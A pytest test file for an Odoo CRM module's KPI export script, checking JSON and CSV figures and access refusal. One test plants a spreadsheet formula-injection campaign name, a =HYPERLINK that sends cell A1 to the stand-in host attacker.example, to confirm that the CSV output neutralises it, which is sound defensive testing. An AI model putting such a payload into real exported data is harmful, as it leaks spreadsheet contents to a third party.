"""scripts/export_kpis.py against the live test server, on the constructed impact dataset."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def impact_dataset(registry):
    """The dataset of the module's impact tests, committed in the test database."""
    from odoo import SUPERUSER_ID, api  # noqa: PLC0415

    from odoo.addons.territory_concierge.tests import impact_dataset  # noqa: PLC0415

    with registry.cursor() as cr:
        env = api.Environment(cr, SUPERUSER_ID, {})
        if not env["utm.campaign"].search_count([("name", "=", impact_dataset.CAMPAIGN)]):
            impact_dataset.build_impact_dataset(env)
    return impact_dataset


def export(odoo_url, odoo_db, key, *options):
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "export_kpis.py"), "--url", odoo_url, "--db", odoo_db,
         "--api-key", key, *options],
        capture_output=True, text=True, check=False, timeout=300)


def test_export_json_matches_every_figure(odoo_url, odoo_db, make_user, impact_dataset):
    _uid, key = make_user(["territory_concierge.group_concierge_manager"])
    result = export(odoo_url, odoo_db, key, "--campaign", impact_dataset.CAMPAIGN, "--as-of", impact_dataset.AS_OF)
    assert result.returncode == 0, result.stderr
    kpis = json.loads(result.stdout)
    funnel = [(row["stage"], row["reached"], row["conversion"], row["median_days"]) for row in kpis["funnel"]]
    assert funnel == impact_dataset.EXPECTED_FUNNEL
    assert kpis["funnel"][0]["label"] == "Contacted"
    assert {(row["stage"], row["reason"]): row["count"] for row in kpis["lost"]} == impact_dataset.EXPECTED_LOST
    assert kpis["campaigns"] == [impact_dataset.EXPECTED_CAMPAIGN]
    assert kpis["retention"] == impact_dataset.EXPECTED_RETENTION
    assert kpis["filters"]["campaign"] == impact_dataset.CAMPAIGN


def test_export_csv(odoo_url, odoo_db, make_user, impact_dataset):
    _uid, key = make_user(["territory_concierge.group_concierge_manager"])
    result = export(odoo_url, odoo_db, key, "--campaign", impact_dataset.CAMPAIGN, "--as-of", impact_dataset.AS_OF,
                    "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = [row for row in csv.reader(io.StringIO(result.stdout), delimiter=";") if row]
    funnel = [row for row in rows if row[0] == "funnel"]
    assert funnel[0] == ["funnel", "territory_concierge.stage_contacted", "contacted", "Contacted", "430", "1.0",
                         "22.0"]
    campaigns = [row for row in rows if row[0] == "campaigns"]
    assert campaigns[0][1:3] == [impact_dataset.CAMPAIGN, "43000.0"]


def test_export_csv_neutralises_a_formula_campaign(odoo_url, odoo_db, registry, make_user):
    """A campaign named like a formula (e.g. made up by a visitor) is written as text."""
    from odoo import SUPERUSER_ID, api  # noqa: PLC0415

    name = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'
    with registry.cursor() as cr:
        env = api.Environment(cr, SUPERUSER_ID, {})
        campaign = env["utm.campaign"].search([("name", "=", name)]) or env["utm.campaign"].create(
            {"name": name, "concierge_campaign": True})
        env["crm.lead"].create({"name": "Famille Formule", "campaign_id": campaign.id, "type": "opportunity",
                                "team_id": env.ref("territory_concierge.crm_team_concierge").id})
    _uid, key = make_user(["territory_concierge.group_concierge_manager"])
    result = export(odoo_url, odoo_db, key, "--campaign", name, "--format", "csv")
    assert result.returncode == 0, result.stderr
    campaigns = [row for row in csv.reader(io.StringIO(result.stdout), delimiter=";") if row and row[0] == "campaigns"]
    assert campaigns[0][1] == f"'{name}"
    assert not any(cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(result.stdout), delimiter=";")
                   for cell in row)


def test_export_refused_to_a_crm_user_outside_the_conciergerie(odoo_url, odoo_db, make_user, impact_dataset):
    _uid, key = make_user(["sales_team.group_sale_salesman_all_leads"])
    result = export(odoo_url, odoo_db, key)
    assert result.returncode != 0
    assert "(403)" in result.stderr
